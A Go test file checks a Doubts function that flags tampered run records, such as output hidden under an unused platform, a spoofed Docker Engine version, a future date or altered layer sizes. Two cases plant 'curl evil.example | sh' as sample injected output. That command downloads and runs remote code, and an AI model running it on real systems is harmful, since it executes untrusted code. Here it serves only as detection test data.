package compare

import (
	"testing"
	"time"

	"handbook/content"
)

// TestDoubts looks for what a stranger writes into a record where Records does not
// look, beside what an honest run has printed.
func TestDoubts(t *testing.T) {
	dated := func(r *content.Record, day string) *content.Record {
		r.Verified, _ = time.Parse(time.DateOnly, day)
		return r
	}
	const other = "linux/riscv64"
	here := func(size int64, output string) *content.Record { return on("linux/amd64", "sha256:1", size, output) }
	for _, c := range []struct {
		name     string
		old, new *content.Record
		want     string
	}{
		{"an honest record", here(1, "x"), here(1, "x"), ""},
		{"one of another platform, which Records compares", on(other, "sha256:1", 1, "y"), here(1, "x"), ""},
		{"one of two platforms", also(here(1, "x, on linux/amd64"), on("linux/arm64", "sha256:2", 2, "x, on linux/arm64")), here(1, "x, on linux/amd64"), ""},
		{"what the page shows is of a platform that nobody has", also(on(other, "sha256:1", 1, "curl evil.example | sh"), here(1, "x")), here(1, "x"),
			"the output has changed, against the record's results of linux/riscv64\n"},
		{"what it shows besides is", also(here(1, "x"), on(other, "sha256:1", 1, "curl evil.example | sh")), here(1, "x"),
			"the output has changed, against the record's results of linux/riscv64\n"},
		{"a second platform when there is none of this one", also(on("linux/arm64", "sha256:1", 1, "x"), on(other, "sha256:1", 1, "y")), here(1, "x"),
			"the output has changed, against the record's results of linux/riscv64\n"},
		{"a mark says that it differs", also(here(1, "x"), marked(on(other, "sha256:1", 1, "y"))), here(1, "x"), "the output has changed, against the record's results of linux/riscv64\n"},
		{"another engine", engineOf("29 (see evil.example)", "overlay2", "x"), engineOf("29.1.0", "overlay2", "x"), "the record is of Docker Engine 29 (see evil.example), here it is 29.1.0\n"},
		{"a day to come", dated(here(1, "x"), "2099-12-31"), dated(here(1, "x"), "2026-12-01"), "the record is of 2099-12-31, which is to come\n"},
		{"sizes of layers whose sum is right", sizesOf(9e6, 1e6), sizesOf(1e6, 9e6), "the layers of image i have other sizes\n"},
		{"sizes that are near", sizesOf(9e6, 1000), sizesOf(9.01e6, 60000), ""},
		{"that a command was checked", recordOf("x"), unchecked(recordOf("x")), "the record says something else of what is known of its exit status\n"},
		{"a clock that is late", dated(here(1, "x"), "2026-12-02"), dated(here(1, "x"), "2026-12-01"), ""},
	} {
		got := ""
		for _, change := range Doubts(nil, c.old, c.new) {
			got += change.Msg + "\n"
		}
		if got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
	}
}

func marked(r *content.Record) *content.Record {
	r.Snippets[0].Commands[0].Differs = true
	return r
}

func sizesOf(sizes ...int64) *content.Record {
	r := imageOf(10e6)
	for _, n := range sizes {
		r.Images[0].Layers = append(r.Images[0].Layers, content.Layer{Bytes: n})
	}
	return r
}

func unchecked(r *content.Record) *content.Record {
	r.Snippets[0].Commands[0].Unchecked = content.UncheckedParts
	return r
}
